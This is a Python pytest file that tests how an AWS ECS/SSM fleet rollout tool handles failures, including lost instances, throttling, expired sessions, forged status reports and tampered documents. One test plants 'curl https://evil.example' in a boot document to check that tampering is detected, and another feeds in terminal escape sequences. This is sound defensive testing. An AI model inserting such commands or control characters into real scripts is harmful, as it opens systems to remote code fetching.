"""`ecsauth fleet` in bad cases: instances fail, lie or vanish, services fail, and somebody changes things meanwhile."""

from __future__ import annotations

from typing import TYPE_CHECKING

import json_service
import program
import pytest
from aws_environment import OPERATOR
from fleet_world import CANDIDATE, KEY
from hurried import HURRIED
from machine import auth_file
from pushing import Meanwhile

if TYPE_CHECKING:
    from fleet_world import FleetWorld
    from json_service import Call
    from loopback_server import Answer
    from s3_faults import Forward
    from s3_request import Request


class BeforeCopy(Meanwhile):
    """Somebody else does something just before the first copy."""

    seen = 0

    def respond(self, request: Request, forward: Forward) -> Answer:
        """Let them do it, then carry the request out."""
        if "x-amz-copy-source" not in request.headers or self.seen:
            return forward()
        self.seen += 1
        return super().respond(request, forward)


def test_an_instance_launched_meanwhile(models: FleetWorld) -> None:
    """It boots from the released version, and is in a later wave of the same roll."""
    models.before_first_script(lambda: models.launch_models(1))
    done = models.roll()
    assert done.status == 0, done.err
    assert (len(models.models), models.model_versions) == (9, {models.candidates[0]})


def test_a_reboot_while_it_is_watched(models: FleetWorld) -> None:
    """ECS has lost the agents of those that have the candidate; at the next look they are back: the roll goes on."""
    looks: list[str] = []

    def come_back(call: Call) -> None:
        looks.append(call.operation)
        for node in models.models:
            node.connected = len(looks) % 2 == 1

    models.service.inject(come_back, operation="DescribeContainerInstances")
    done = models.roll(CANDIDATE, "--soak=5m")
    assert done.status == 0, done.err


def test_an_agent_that_stays_away(models: FleetWorld) -> None:
    """ECS has lost the agents of the first wave for good: the roll halts."""

    def lose() -> None:
        for node in models.models:
            node.connected = False

    models.before_first_script(lose)
    done = models.roll(CANDIDATE, "--soak=5m")
    assert (done.status, models.releases) == (7, [models.released])
    assert "ECS has no connection to its agent" in done.err


@pytest.mark.parametrize("state", ["stopped", "lost"])
def test_an_instance_that_is_offline(models: FleetWorld, state: str) -> None:
    """It is not an error: it is named, and takes the released version once it runs again.

    Systems Manager does not list one that is stopped, and lists one that has lost its network.
    """
    models.models[0].stopped, models.models[0].online = state == "stopped", state != "lost"
    done = models.roll()
    assert done.status == 0, done.err
    assert f"1 instances were not reached: {models.models[0].id}" in done.err
    assert models.models[0].version == models.released


@pytest.mark.parametrize("state", ["stopped", "lost"])
def test_an_instance_that_is_stopped_meanwhile(models: FleetWorld, state: str) -> None:
    """What cannot be delivered any more is no error."""

    def stop() -> None:
        last = models.in_order[-1]
        last.stopped, last.online = state == "stopped", state != "lost"

    models.before_first_script(stop)
    done = models.roll()
    assert done.status == 0, done.err
    assert models.in_order[-1].id in done.err


def test_all_instances_are_stopped(models: FleetWorld) -> None:
    """A roll that would reach nobody is refused before anything is put."""
    for node in models.models:
        node.stopped = True
    done = models.roll()
    assert (done.status, models.candidates) == (4, [])
    assert "no instance of cluster demo is online in Systems Manager" in done.err


def test_status_of_a_stopped_instance(models: FleetWorld) -> None:
    """It is not called unmanaged."""
    models.models[0].stopped = True
    done = models.fleet("status")
    assert (
        f"{models.models[0].id}  unknown         neither Systems Manager nor ECS has a connection to it" in done.out
    ), done.out


def test_instances_without_the_tag(models: FleetWorld) -> None:
    """They are named with the command that tags them, and nothing is put; one that is stopped does not count."""
    for node in models.models[3:]:
        node.tags["ecsauth"] = "prod"
    models.models[2].stopped = True
    untagged = sorted(node.id for node in models.models[:2])
    done = models.roll()
    assert (done.status, models.candidates) == (4, []), done.err
    assert f"it is missing on {', '.join(untagged)}\n" in done.err
    assert f"aws ec2 create-tags --resources {' '.join(untagged)} --tags Key=ecsauth,Value=prod" in done.err
    for node in models.models:
        node.tags["ecsauth"] = "prod"
    assert models.roll().status == 0


def test_tags_that_may_not_be_asked_for(models: FleetWorld) -> None:
    """The commands themselves tell what is missing."""

    def deny(call: Call) -> None:
        if call.parameters["Filters"][0]["Key"].startswith("tag:"):
            json_service.denied(call)

    models.models[0].tags["ecsauth"] = "prod"
    models.service.inject(deny, operation="DescribeInstanceInformation")
    assert models.roll().status == 0


def test_an_instance_that_is_terminated_meanwhile(models: FleetWorld) -> None:
    """Systems Manager refuses the whole command for it: it is sent to the others."""
    gone: list[str] = []

    def terminate(call: Call) -> None:
        if call.parameters["Comment"].endswith("wave 3/3") and not gone:
            gone.append(models.order(models.candidates[0])[-1])
            del models.engine.managed.nodes[gone[0]]

    models.service.inject(terminate, operation="SendCommand")
    done = models.roll()
    assert done.status == 0, done.err
    assert sum(1 for node in models.models if node.version == models.candidates[0]) == 7


def test_an_instance_that_hangs(models: FleetWorld) -> None:
    """Its command does not end in time: that is an error, and halts the roll."""
    for node in models.models:
        node.hangs = True
    done = models.roll()
    assert (done.status, models.releases) == (7, [models.released])
    assert "gave no result in time" in done.err


def test_promotion_conflict(models: FleetWorld) -> None:
    """Somebody released another version meanwhile: the candidate is not promoted over it."""
    models.before_first_script(lambda: models.store.put(auth_file("a-hotfix"), KEY))
    done = models.roll(CANDIDATE, "--waves=100%")
    assert done.status == 9, done.err
    assert models.store.get(KEY) == auth_file("a-hotfix")


def test_promotion_conflict_at_the_last_moment(models: FleetWorld) -> None:
    """Somebody releases another version just before the copy: its condition refuses it."""
    before_copy = BeforeCopy(lambda: models.store.put(auth_file("a-hotfix"), KEY))
    models.proxy.inject(before_copy, operation="PutObject")
    done = models.roll()
    assert (done.status, before_copy.seen) == (9, 1)
    assert models.store.get(KEY) == auth_file("a-hotfix")


def test_a_forged_success(models: FleetWorld) -> None:
    """An instance whose command fails, and which reports that it runs the candidate, halts the roll all the same."""

    def forge() -> None:
        version = models.candidates[0]
        for node in models.models:
            node.fails.add(version)
            node.forged = {"Ahead": version, "Installed": version, "AgentRegistered": "true"}
        models.engine.managed.collect()

    models.before_first_script(forge)
    done = models.roll()
    assert (done.status, models.releases) == (7, [models.released])


@pytest.mark.parametrize(
    "forged",
    [
        {"Installed": "x" * 4096},
        {"Uri": "s3://other/ecs.config"},
        {"LastRunAt": "soon", "ConfirmedAt": "9" * 400},
        {"Installed": "\x1b[2J\u202e"},
        {"Rejected": "other", "AgentRegistered": "maybe"},
    ],
)
def test_forged_reports(models: FleetWorld, forged: dict[str, str]) -> None:
    """Whatever an instance reports: the command reads it, prints no control character, and others are not touched."""
    models.models[0].forged = forged
    models.engine.managed.collect()
    done = models.fleet("status")
    assert done.status in (0, 3), done.err
    assert "\x1b" not in done.out + done.err
    assert models.ask("status")["groups"]["current"] >= 7


def test_a_document_that_was_changed(models: FleetWorld) -> None:
    """A roll refuses before it puts anything."""
    content = models.engine.documents.find("ecsauth-boot").content
    models.engine.documents.put("ecsauth-boot", content.replace("ulimit -c 0", "curl https://evil.example"))
    done = models.roll()
    assert (done.status, models.candidates) == (4, [])
    assert "differs from the document of this ecsauth" in done.err


def test_a_document_that_is_changed_meanwhile(models: FleetWorld) -> None:
    """Commands run the version that they name: the new one runs nowhere."""
    scripts: list[str] = []

    def change(_node: str, script: str) -> None:
        if not scripts:
            models.engine.documents.put("ecsauth-boot", "schemaVersion: '2.2'\n")
        scripts.append(script)

    models.engine.before_script = change
    done = models.roll()
    assert done.status == 0, done.err
    assert {one["DocumentVersion"] for one in models.sent()} == {"1"}


@pytest.mark.parametrize("service", ["ssm", "ecs"])
def test_throttling(models: FleetWorld, service: str) -> None:
    """Calls that are throttled are made again."""
    counts: dict[str, int] = {}

    def throttle(call: Call) -> None:
        counts[call.operation] = counts.get(call.operation, 0) + 1
        if call.service == service and counts[call.operation] % 3:
            json_service.throttle(call)

    models.service.inject(throttle)
    done = models.roll()
    assert done.status == 0, done.err
    assert models.model_versions == {models.candidates[0]}


def test_throttling_without_end(models: FleetWorld) -> None:
    """The command gives up: unreachable."""
    models.service.inject(json_service.throttle, operation="DescribeInstanceInformation")
    done = models.fleet("status")
    assert done.status == 5
    assert "ThrottlingException" in done.err


@pytest.mark.parametrize(
    "words",
    [("roll", "candidate.config", "URI", "--dry-run"), ("doctor", "i-0123456789abcdef0"), ("status", "URI")],
)
def test_no_credentials(models: FleetWorld, words: tuple[str, ...]) -> None:
    """A forgotten profile is an error at once: no wait brings credentials."""
    path = models.folder / "candidate.config"
    path.write_bytes(CANDIDATE)
    env = {name: value for name, value in models.operator_env.items() if name not in OPERATOR}
    known = {"candidate.config": str(path), "URI": models.uri}
    done = program.run_here("fleet", *(known.get(word, word) for word in words), HURRIED, env=env)
    assert done.status == 4, done.err
    assert "no credentials found" in done.err
    assert "tried" not in done.err


def test_an_expired_session(models: FleetWorld) -> None:
    """The message says so and how to go on; after a new login `resume` does."""
    models.service.inject(json_service.expired, operation="ListCommandInvocations")
    done = models.roll()
    assert "expired" in done.err
    assert "ecsauth fleet resume" in done.err
    models.mend()
    assert models.resume().status == 0


def test_pages_and_lag(models: FleetWorld) -> None:
    """Empty pages before the first full one, and a history that lags behind, change nothing."""
    models.engine.pages.empty_first = models.clusters.pages.empty_first = True
    models.engine.lag = 2
    done = models.roll()
    assert done.status == 0, done.err
    assert models.model_versions == {models.candidates[0]}
    assert models.fleet("status").status == 0
